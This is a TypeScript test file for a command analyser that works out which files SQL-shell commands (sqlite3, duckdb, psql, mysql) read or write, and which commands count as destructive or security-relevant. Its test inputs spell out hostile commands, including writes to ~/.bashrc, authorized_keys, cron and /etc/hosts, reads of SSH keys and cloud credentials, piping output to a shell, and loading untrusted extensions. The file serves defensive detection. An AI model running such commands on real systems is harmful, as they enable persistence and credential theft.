import { describe, expect, test } from "vitest";
import { sqlScriptFiles } from "../../../runtime/operation/sql-files.ts";
import { bashDeriver } from "./bash-deriver.ts";

const op = bashDeriver("/home/u/proj", "/home/u");
const access = (command: string, mode: string) =>
  op(command)
    .paths.filter((p) => p.mode === mode)
    .map((p) => p.path);

describe("files a SQL shell's own commands write are writes (ADR 0421)", () => {
  test.each([
    ['sqlite3 /tmp/x.db ".output /etc/hosts" "select \'6.6.6.6 github.com\'"', "/etc/hosts"],
    ['sqlite3 /tmp/x.db ".output /home/u/.ssh/authorized_keys" "select 1"', "/home/u/.ssh/authorized_keys"],
    ['sqlite3 :memory: ".once /home/u/.profile" "select 1"', "/home/u/.profile"],
    ['sqlite3 :memory: ".once -x ~/.bashrc" "select 1"', "/home/u/.bashrc"],
    ['sqlite3 x.db ".backup main ~/.bashrc"', "/home/u/.bashrc"],
    ["sqlite3 x.db \".save '/home/u/.zshrc'\"", "/home/u/.zshrc"],
    ["sqlite3 x.db \"select writefile('/home/u/.bashrc','curl x|sh')\"", "/home/u/.bashrc"],
    ["sqlite3 x.db \"VACUUM INTO '/home/u/.config/autostart/x.desktop'\"", "/home/u/.config/autostart/x.desktop"],
    ['sqlite3 x.db -cmd ".output /etc/cron.d/x" "select 1"', "/etc/cron.d/x"],
    ["sqlite3 x.db <<< '.output ~/.bashrc'", "/home/u/.bashrc"],
    ["printf '.once ~/.bashrc\\nselect 1;\\n' | sqlite3 x.db", "/home/u/.bashrc"],
    ["duckdb -c \"COPY (select 1) TO '/home/u/.bashrc'\"", "/home/u/.bashrc"],
    ["duckdb -c \"ATTACH '~/.local/x.db' AS k\"", "/home/u/.local/x.db"],
    ["psql -c '\\o /home/u/.bashrc' -c 'select 1'", "/home/u/.bashrc"],
    ["psql -c \"\\copy t to '/home/u/.bashrc'\"", "/home/u/.bashrc"],
    ['mysql -e "tee /home/u/.bashrc"', "/home/u/.bashrc"],
    ["mysql -e \"select 1 into outfile '/home/u/.bashrc'\"", "/home/u/.bashrc"],
  ])("%s writes %s", (command, path) => {
    expect(access(command, "write")).toContain(path);
  });

  test.each([
    ["duckdb -c \"SELECT * FROM read_text('/home/u/.ssh/id_rsa')\"", "/home/u/.ssh/id_rsa"],
    ["duckdb -c \"select * from read_blob('~/.aws/credentials')\"", "/home/u/.aws/credentials"],
    ["duckdb -c \"select * from read_csv(['~/.pgpass'])\"", "/home/u/.pgpass"],
    ["duckdb -c \"select * from '~/.kube/config.json'\"", "/home/u/.kube/config.json"],
    ["sqlite3 x.db \"select readfile('/home/u/.ssh/id_ed25519')\"", "/home/u/.ssh/id_ed25519"],
    ['sqlite3 x.db ".import /home/u/.netrc t"', "/home/u/.netrc"],
    ["psql -c \"\\copy t from '/home/u/.pgpass'\"", "/home/u/.pgpass"],
    ["mysql -e \"LOAD DATA LOCAL INFILE '/home/u/.my.cnf' INTO TABLE t\"", "/home/u/.my.cnf"],
  ])("%s reads %s", (command, path) => {
    expect(access(command, "read")).toContain(path);
  });

  test.each([
    ['sqlite3 x.db ".output |sh" "select 1"', "DESTRUCTIVE"],
    ["psql -c '\\o |bash'", "DESTRUCTIVE"],
    ['sqlite3 x.db ".load /tmp/evil.so"', "SECURITY"],
    ["sqlite3 x.db \"select load_extension('/tmp/e')\"", "SECURITY"],
    ["duckdb -c \"LOAD '/tmp/x.duckdb_extension'\"", "SECURITY"],
  ])("%s is %s", (command, level) => {
    expect(op(command).level).toBe(level);
  });

  test.each([
    'sqlite3 app.db ".output report.txt" "select * from users"',
    'sqlite3 app.db "select count(*) from users"',
    "duckdb -c \"select * from read_csv('data/x.csv')\"",
    "duckdb -c \"COPY t TO 'out/t.parquet'\"",
    'duckdb -c "INSTALL httpfs; LOAD httpfs;"',
  ])("%s stays inside the project and below SECURITY", (command) => {
    const o = op(command);
    expect(["READ", "WRITE"]).toContain(o.level);
    expect(o.paths.every((p) => p.path.startsWith("/home/u/proj"))).toBe(true);
  });
});

describe("sqlScriptFiles", () => {
  test.each([
    [".output stdout", []],
    [".once |cat", []],
    ["select 'a' from t", []],
    ["\\copy t to program 'gzip > x'", []],
    [".open --new ~/.bashrc", [{ word: "~/.bashrc", mode: "write" }]],
    [".open app.db", [{ word: "app.db", mode: "read" }]],
    ["select 1; .output x.txt", [{ word: "x.txt", mode: "write" }]],
  ])("%s → %j", (text, files) => {
    expect(sqlScriptFiles(text)).toEqual(files);
  });
});
